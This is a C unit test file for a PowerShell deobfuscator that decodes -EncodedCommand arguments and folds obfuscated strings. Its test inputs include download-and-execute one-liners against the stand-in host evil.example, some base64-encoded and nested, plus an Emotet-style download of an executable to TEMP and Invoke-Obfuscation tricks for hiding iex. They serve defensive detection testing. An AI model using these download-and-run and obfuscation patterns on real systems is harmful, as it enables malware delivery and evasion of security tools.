/*
 * test_deob_powershell.c - the PowerShell evaluator (src/deob/powershell.c):
 * -EncodedCommand in every spelling (a LNK's command line, cmd /c with
 * carets, an EncodedCommand inside an EncodedCommand, bad base64,
 * odd-length UTF-16, an unpaired surrogate), each folded construct with
 * its exact string and how, Invoke-Expression analysed again, the limits
 * (steps, bytes, depth, time), and hostile input (10 MB of garbage, of
 * "[char]" and of "((((" within a second; every prefix of a script).
 *
 * The base64 vectors were made with Python: base64.b64encode(s.encode(
 * "utf-16le")).
 */
#include "test_helpers.h"

#include <string.h>

#include "deob/deob.h"

/* PowerShell's iex of a downloader, and a command line that runs it encoded. */
#define B64_INNER "aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAAnACsAJwB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBwACcAKQA="
#define INNER "iex (New-Object Net.WebClient).DownloadString('ht'+'tp://evil.example/p')"
#define B64_OUTER "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABhAFEAQgBsAEEASABnAEEASQBBAEEAbwBBAEUANABBAFoAUQBCADMAQQBDADAAQQBUAHcAQgBpAEEARwBvAEEAWgBRAEIAagBBAEgAUQBBAEkAQQBCAE8AQQBHAFUAQQBkAEEAQQB1AEEARgBjAEEAWgBRAEIAaQBBAEUATQBBAGIAQQBCAHAAQQBHAFUAQQBiAGcAQgAwAEEAQwBrAEEATABnAEIARQBBAEcAOABBAGQAdwBCAHUAQQBHAHcAQQBiAHcAQgBoAEEARwBRAEEAVQB3AEIAMABBAEgASQBBAGEAUQBCAHUAQQBHAGMAQQBLAEEAQQBuAEEARwBnAEEAZABBAEEAbgBBAEMAcwBBAEoAdwBCADAAQQBIAEEAQQBPAGcAQQB2AEEAQwA4AEEAWgBRAEIAMgBBAEcAawBBAGIAQQBBAHUAQQBHAFUAQQBlAEEAQgBoAEEARwAwAEEAYwBBAEIAcwBBAEcAVQBBAEwAdwBCAHcAQQBDAGMAQQBLAFEAQQA9AA=="
#define OUTER "powershell -enc " B64_INNER
#define B64_HELLO "VwByAGkAdABlAC0ASABvAHMAdAAgAGgAZQBsAGwAbwA="	/* Write-Host hello */

/* What deob_powershell() recovers: one "how|value" line each. */
static char *
run_lim(const char *text, size_t len, const struct deob_limits *lim, const char **limit)
{
	struct deob_result r;
	deob_result_init(&r);
	deob_powershell(text, len, lim, &r);
	GString *s = g_string_new("");
	for (guint i = 0; i < r.strs->len; i++) {
		const struct deob_str *d = g_ptr_array_index(r.strs, i);
		assert_true(g_utf8_validate(d->value, (gssize)d->len, NULL));
		assert_true(d->len <= DEOB_STR_MAX);
		g_string_append_printf(s, "%s|%s\n", d->how, d->value);
	}
	if (limit != NULL)
		*limit = r.limit;
	deob_result_clear(&r);
	return g_string_free(s, FALSE);
}

static void
expect_lim(const char *text, const struct deob_limits *lim, const char *want,
    const char *want_limit)
{
	const char *limit = NULL;
	char *got = run_lim(text, strlen(text), lim, &limit);
	assert_utf8_equal(got, want);
	if (want_limit == NULL)
		assert_null(limit);
	else
		assert_utf8_equal(limit, want_limit);
	g_free(got);
}

static void
expect(const char *text, const char *want)
{
	expect_lim(text, NULL, want, NULL);
}

/* --- -EncodedCommand ------------------------------------------------------- */

static void
test_lnk_nested(void **state)
{
	(void)state;
	expect("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc "
	    B64_OUTER,
	    "powershell -EncodedCommand|" OUTER "\n"
	    "powershell -EncodedCommand|" INNER "\n"
	    "powershell literal|tp://evil.example/p\n"
	    "powershell folding|http://evil.example/p\n");
	/* a LNK's arguments alone */
	expect("-NoP -NonI -W Hidden -Exec Bypass -Enc " B64_HELLO,
	    "powershell -EncodedCommand|Write-Host hello\n");
}

static void
test_option_spellings(void **state)
{
	(void)state;
	static const char *const lines[] = {
		"powershell -e " B64_HELLO,
		"POWERSHELL.EXE -EncodedCommand " B64_HELLO,
		"PowerShell -eNcOdEdCoMmAnD " B64_HELLO,
		"powershell -enco " B64_HELLO,
		"powershell -encodedc " B64_HELLO,
		"powershell -ec " B64_HELLO,
		"powershell /enc " B64_HELLO,
		"pwsh -noprofile -en \"" B64_HELLO "\"",
		"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -ep bypass -e '" B64_HELLO "'",
		"powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -e " B64_HELLO,
		"Shell(\"powershell -e " B64_HELLO "\", 0)",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(lines); i++)
		expect(lines[i], "powershell -EncodedCommand|Write-Host hello\n");
	/* options that take a value: -ex is -ExecutionPolicy, not -EncodedCommand */
	expect("powershell -ex " B64_HELLO, "");
	expect("powershell -file x.ps1 -e " B64_HELLO, "");
	/* no word boundary */
	expect("xpowershell -e " B64_HELLO, "");
}

static void
test_cmd_wrapping(void **state)
{
	(void)state;
	expect("cmd.exe /c \"powershell -nop -e " B64_HELLO "\"",
	    "powershell -EncodedCommand|Write-Host hello\n");
	expect("cmd /c p^o^w^e^r^s^h^e^l^l -e^n^c " B64_HELLO,
	    "powershell -EncodedCommand|Write-Host hello\n");
	expect("%COMSPEC% /b /c start /b /min powershell -nop -w hidden -e " B64_HELLO " & exit",
	    "powershell -EncodedCommand|Write-Host hello\n");
	/* -Command: the script is analysed */
	expect("cmd /c powershell -c \"iex ('ht'+'tp://c.example/')\"",
	    "powershell literal|iex ('ht'+'tp://c.example/')\n"
	    "powershell literal|tp://c.example/\n"
	    "powershell folding|http://c.example/\n");
}

static void
test_bad_encoded(void **state)
{
	(void)state;
	/* not base64, too short, padding inside */
	expect("powershell -e !!notbase64!!", "");
	expect("powershell -e QQ", "");
	expect("powershell -e VwBy=AGkA", "");
	/* base64 of no script (binary) */
	expect("powershell -e 3q2+796tvu/erb7v", "");
	/* odd length: the last byte is no code unit */
	expect("powershell -e VwByAGkAdABlAC0ASABvAHMAdAAgAG8AZABkAEE=",
	    "powershell -EncodedCommand|Write-Host odd\n");
	/* an unpaired surrogate becomes U+FFFD */
	expect("powershell -e YQBiAADYYwBkAA==",
	    "powershell -EncodedCommand|ab\xEF\xBF\xBD" "cd\n");
	/* truncated */
	expect("powershell -e", "");
	expect("powershell -", "");
	expect("powershell", "");
}

/* --- folding ---------------------------------------------------------------- */

static void
test_emotet(void **state)
{
	(void)state;
	expect("(New-Object Net.WebClient).DownloadFile('ht'+'tp://evil.example/a.exe', "
	    "\"$env:TEMP\\a.exe\")",
	    "powershell literal|tp://evil.example/a.exe\n"
	    "powershell folding|http://evil.example/a.exe\n");
	expect("$wc = New-Object System.Net.WebClient; $u = 'h'+'t'+'t'+'p'+':'+'/'+'/'+'e.example'\n"
	    "$wc.DownloadString(\"$u/x.ps1\") | iex",
	    "powershell folding|http://e.example\n"
	    "powershell folding|http://e.example/x.ps1\n");
}

static void
test_literals_and_escapes(void **state)
{
	(void)state;
	/* a plain URL literal; plain strings are not news */
	expect("$u = 'http://plain.example/'; $v = 'abcdef'; $w = $v",
	    "powershell literal|http://plain.example/\n");
	/* '' in single quotes, backtick escapes in double quotes */
	expect("$a = 'it''s' + ' ok'", "powershell folding|it's ok\n");
	expect("$a = \"a`tb`\"c`$d``e\" + \"`n\"", "powershell folding|a\tb\"c$d`e\n\n");
	expect("$a = \"q\"\"q\" + 'z'", "powershell folding|q\"qz\n");
	/* a folded string equal to a literal of the text is not recorded */
	expect("$a = 'abcd'; $b = 'ab' + 'cd'", "");
	/* 3 characters are too short */
	expect("$a = 'a' + 'bc'", "");
	/* here-strings */
	expect("$a = @'\nhttp://here.example/\n'@ + 'x'",
	    "powershell literal|http://here.example/\n"
	    "powershell folding|http://here.example/x\n");
}

static void
test_chars(void **state)
{
	(void)state;
	expect("$a = [char]72 + [char]0x69 + 'there'", "powershell folding|Hithere\n");
	expect("$a = [char]104+[char]116+[char]116+[char]112", "powershell folding|http\n");
	expect("$a = [char[]](104,116,116,112,115) -join ''", "powershell folding|https\n");
	expect("$a = -join [char[]](104,116,116,112,115)", "powershell folding|https\n");
	expect("$a = -join ([char[]](104,116,116,112) | % {$_})", "powershell folding|http\n");
	expect("$a = ((104,116,116,112) | % {[char]$_}) -join ''", "powershell folding|http\n");
	expect("$a = ((105,106,107,108) | ForEach-Object { [char]($_ - 1) }) -join ''",
	    "powershell folding|hijk\n");
	expect("$a = ('104x116x116x112' -split 'x' | % {[char][int]$_}) -join ''",
	    "powershell folding|http\n");
	expect("$a = ((('150','164') | % {[char][Convert]::ToInt32($_, 8)}) -join '') + 'tp'",
	    "powershell folding|http\n");
	/* -join is looser than +: the separator is '' + 'tp' */
	expect("$a = (('150','164') | % {[char][Convert]::ToInt32($_, 8)}) -join '' + 'tp'",
	    "powershell folding|htpt\n");
	expect("$a = ((0x2d,0x31,0x31,0x35) | % {[char]($_ -bxor 0x45)}) -join ''",
	    "powershell folding|http\n");
	/* [string] of an array joins with $OFS (a space, or what it is set to) */
	expect("$a = [string][char[]](72,105,74,75)", "powershell folding|H i J K\n");
	expect("$ofs = ''; $a = [string][char[]](72,105,74,75)", "powershell folding|HiJK\n");
	expect("$a = [string]::Join('', [char[]](72,105,74,75))", "powershell folding|HiJK\n");
	expect("$a = [string]::Join('/', 'a', 'b', 'c')", "powershell folding|a/b/c\n");
	expect("$a = [String]::Concat('ab', 'cd', [char]33)", "powershell folding|abcd!\n");
}

static void
test_format_replace(void **state)
{
	(void)state;
	expect("$a = \"{1}{0}{2}\" -f 'b','a','cd'", "powershell folding|abcd\n");
	expect("$a = \"{0}://{1}.example/{0}\" -F 'http','f'",
	    "powershell folding|http://f.example/http\n");
	expect("$a = '{0,5}|{1,-3}|{{x}}' -f 'ab','c'", "powershell folding|   ab|c  |{x}\n");
	expect("$a = [string]::Format('{1}{0}', 'tp', 'ht') + '://x'",
	    "powershell folding|http://x\n");
	/* a format specifier or a missing argument: unknown */
	expect("$a = '{0:x2}abc' -f 1", "");
	expect("$a = '{3}abc' -f 1", "");
	expect("$a = 'hxxp://r.example/'.Replace('xx', 'tt')",
	    "powershell literal|hxxp://r.example/\n"
	    "powershell folding|http://r.example/\n");
	expect("$a = 'HXXP://r.example/' -replace 'xx','tt'",
	    "powershell literal|HXXP://r.example/\n"
	    "powershell folding|HttP://r.example/\n");
	/* -creplace minds case (nothing here), -replace not */
	expect("$a = 'aXbXcd' -creplace 'x','-' -replace 'X',''", "powershell folding|abcd\n");
	expect("$a = 'aQQb' -replace 'QQ', '$$1$'", "powershell folding|a$1$b\n");
	/* a regex or a group reference: unknown */
	expect("$a = 'abcdef' -replace 'b.d', 'x'", "");
	expect("$a = 'abcdef' -replace 'bcd', '$1'", "");
	expect("$a = 'ptth'[-1..-4] -join ''", "powershell folding|http\n");
	expect("$a = 'xhttpx'.Substring(1, 4).ToUpper()", "powershell folding|HTTP\n");
	expect("$a = 'http'.ToCharArray(); [Array]::Reverse($a); $b = -join $a",
	    "powershell folding|ptth\n");
}

static void
test_variables(void **state)
{
	(void)state;
	expect("$u = 'ht'+'tp'; $h = 'v.example'\n$x = $u + '://' + $h + '/p'",
	    "powershell folding|http\n"
	    "powershell folding|http://v.example/p\n");
	expect("$u = 'ht'\n$u += 'tp://w.example'\n", "powershell literal|tp://w.example\n"
	    "powershell folding|http://w.example\n");
	expect("${my var} = 'abc'; $script:b = ${my var} + 'def'", "powershell folding|abcdef\n");
	/* an unknown part makes the whole unknown */
	expect("$x = $unknown + 'http'", "");
	expect("$x = \"$(Get-Date)abcd\"", "");
}

static void
test_base64_strings(void **state)
{
	(void)state;
	expect("$a = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("
	    "'aAB0AHQAcAA6AC8ALwB1AG4AaQAuAGUAeABhAG0AcABsAGUALwB6AA=='))",
	    "FromBase64String|http://uni.example/z\n");
	expect("$a = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("
	    "'aHR0cDovL3V0ZjguZXhhbXBsZS94'))",
	    "FromBase64String|http://utf8.example/x\n");
	expect("$a = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String("
	    "'aHR0cDovL2FzY2lpLmV4YW1wbGUv/3k='))",
	    "FromBase64String|http://ascii.example/?y\n");
	expect("$a = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('!!!'))", "");
	/* decoded and run: analysed again */
	expect("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
	    B64_INNER "')))",
	    "FromBase64String|" INNER "\n"
	    "powershell literal|tp://evil.example/p\n"
	    "powershell folding|http://evil.example/p\n");
}

static void
test_iex(void **state)
{
	(void)state;
	/* a plain literal is run, not recorded */
	expect("iex (\"`$x = 'ab'+'cd'\")", "powershell folding|abcd\n");
	expect("Invoke-Expression ('$y='+\"'ef'+'gh'\")", "powershell folding|$y='ef'+'gh'\n"
	    "powershell folding|efgh\n");
	/* Invoke-Obfuscation's spellings of iex */
	expect(".( $env:ComSpec[4,15,25]-join'') ('$z = \"ij\"+\"kl\"')",
	    "powershell folding|ijkl\n");
	expect("&($ShellId[1]+$ShellId[13]+'x') ('$z = \"mn\"+\"op\"')",
	    "powershell folding|mnop\n");
	expect("'$z = \"qr\"+\"st\"' | & ($PSHome[4]+$PSHome[30]+'x')",
	    "powershell folding|qrst\n");
	expect("('$z = \"uv\"+\"wx\"') | .($VerbosePreference.ToString()[1,3]+'x'-Join'')",
	    "powershell folding|uvwx\n");
	expect("i`e`x ('$z = \"ab\"+\"yz\"')", "powershell folding|abyz\n");
	expect("[ScriptBlock]::Create('$z = \"cd\"+\"yz\"').Invoke()",
	    "powershell folding|cdyz\n");
	/* a powershell command line built by the script */
	expect("& ('power'+'shell') -e ('VwByAGkAdABlAC0ASABvAHMAdAAg'+'AGgAZQBsAGwAbwA=')",
	    "powershell folding|powershell\n"
	    "powershell folding|VwByAGkAdABlAC0ASABvAHMAdAAgAGgAZQBsAGwAbwA=\n"
	    "powershell -EncodedCommand|Write-Host hello\n");
}

static void
test_blocks(void **state)
{
	(void)state;
	expect("function f { $a = 'ab'+'cd' }\nif ($x) { $b = 'ef'+'gh' } else { $c = 'ij'+'kl' }\n"
	    "try { foreach ($i in 1..3) { $d = 'mn'+'op' } } catch [Exception] { }",
	    "powershell folding|abcd\n"
	    "powershell folding|efgh\n"
	    "powershell folding|ijkl\n"
	    "powershell folding|mnop\n");
	/* errors resume at the next statement */
	expect(")))) $a = 'ab'+'cd' }}} $b = 'ef' + ; $c = 'gh'+'ij'\n",
	    "powershell folding|abcd\n"
	    "powershell folding|ghij\n");
	/* comments are no code */
	expect("# $a = 'ab'+'cd'\n<# $b = 'ef'+'gh' #> $c = 'ij'+'kl'", "powershell folding|ijkl\n");
}

/* --- limits ------------------------------------------------------------------ */

static void
test_limits(void **state)
{
	(void)state;
	const char *script = "$a = 'ab'+'cd'; $b = 'ef'+'gh'; $c = 'ij'+'kl'; $d = 'mn'+'op'";
	struct deob_limits lim = { 0 };
	lim.steps = 30;
	const char *limit = NULL;
	char *got = run_lim(script, strlen(script), &lim, &limit);
	assert_utf8_equal(limit, "steps");
	g_free(got);

	memset(&lim, 0, sizeof lim);
	lim.bytes = 9;
	expect_lim(script, &lim, "powershell folding|abcd\npowershell folding|efgh\n", "bytes");

	/* depth 1: the outer script is analysed, the inner one decoded but
	 * not analysed */
	memset(&lim, 0, sizeof lim);
	lim.depth = 1;
	expect_lim("powershell -enc " B64_OUTER, &lim,
	    "powershell -EncodedCommand|" OUTER "\n"
	    "powershell -EncodedCommand|" INNER "\n", "depth");

	/* a deadline in the past stops at the first clock reading */
	memset(&lim, 0, sizeof lim);
	lim.deadline = 1;
	GString *big = g_string_new("");
	for (int i = 0; i < 5000; i++)
		g_string_append(big, "$a = 'ab'+'cd'\n");
	got = run_lim(big->str, big->len, &lim, &limit);
	assert_utf8_equal(limit, "time");
	g_free(got);
	g_string_free(big, TRUE);
}

static void
test_empty_and_prefixes(void **state)
{
	(void)state;
	expect("", "");
	const char *limit = NULL;
	char *got = run_lim(NULL, 0, NULL, &limit);
	assert_utf8_equal(got, "");
	g_free(got);
	/* every prefix of a script (no NUL terminator: a copy of exactly n bytes) */
	const char *script = "$u = ((104,116) | % {[char]$_}) -join ''; $v = \"{0}{1}\" -f $u,'tp'\n"
	    "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" B64_HELLO
	    "'))); powershell -e " B64_HELLO " @'\nx\n'@ \"a`\"$(b)\" <# c #> [char[]]'x'";
	size_t n = strlen(script);
	for (size_t k = 0; k <= n; k++) {
		char *copy = g_memdup2(script, k);
		got = run_lim(copy, k, NULL, &limit);
		g_free(got);
		g_free(copy);
	}
	/* invalid UTF-8 and NUL bytes */
	static const char bin[] = "$a = '\xff\xfe' + \"\x00\x80\" + [char]0xD800 + 'abc'";
	got = run_lim(bin, sizeof(bin) - 1, NULL, &limit);
	g_free(got);
}

/* A second; three under AddressSanitizer (the Asan build type's -O1 and
 * shadow memory make each step about four times slower). */
#if defined(__SANITIZE_ADDRESS__)
#define TIME_MAX (3 * G_USEC_PER_SEC)
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define TIME_MAX (3 * G_USEC_PER_SEC)
#endif
#endif
#ifndef TIME_MAX
#define TIME_MAX G_USEC_PER_SEC
#endif

/* 10 MB of text made by fill(), within TIME_MAX. */
static void
timed(void (*fill)(char *, size_t), const struct deob_limits *lim)
{
	size_t n = 10u * 1024u * 1024u;
	char *buf = g_malloc(n);
	fill(buf, n);
	gint64 t0 = g_get_monotonic_time();
	const char *limit = NULL;
	char *got = run_lim(buf, n, lim, &limit);
	gint64 us = g_get_monotonic_time() - t0;
	print_message("10 MB in %.3f s (limit %s)\n", (double)us / 1e6, limit ? limit : "none");
	g_free(got);
	g_free(buf);
	assert_true(us < TIME_MAX);
}

static void
fill_random(char *b, size_t n)
{
	GRand *r = g_rand_new_with_seed(18);
	for (size_t i = 0; i < n; i++)
		b[i] = (char)g_rand_int_range(r, 0, 256);
	g_rand_free(r);
}

static void
fill_pattern(char *b, size_t n, const char *p)
{
	size_t k = strlen(p);
	for (size_t i = 0; i < n; i++)
		b[i] = p[i % k];
}

static void
fill_char(char *b, size_t n)
{
	fill_pattern(b, n, "[char]");
}

static void
fill_paren(char *b, size_t n)
{
	fill_pattern(b, n, "(");
}

static void
fill_tokens(char *b, size_t n)
{
	fill_pattern(b, n, "$a+'x'.Replace(");
}

static void
fill_ps(char *b, size_t n)
{
	fill_pattern(b, n, "powershell -c ");
}

static void
test_garbage_time(void **state)
{
	(void)state;
	timed(fill_random, NULL);
	timed(fill_char, NULL);
	timed(fill_paren, NULL);
	timed(fill_tokens, NULL);
	timed(fill_ps, NULL);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lnk_nested),
		cmocka_unit_test(test_option_spellings),
		cmocka_unit_test(test_cmd_wrapping),
		cmocka_unit_test(test_bad_encoded),
		cmocka_unit_test(test_emotet),
		cmocka_unit_test(test_literals_and_escapes),
		cmocka_unit_test(test_chars),
		cmocka_unit_test(test_format_replace),
		cmocka_unit_test(test_variables),
		cmocka_unit_test(test_base64_strings),
		cmocka_unit_test(test_iex),
		cmocka_unit_test(test_blocks),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_empty_and_prefixes),
		cmocka_unit_test(test_garbage_time),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
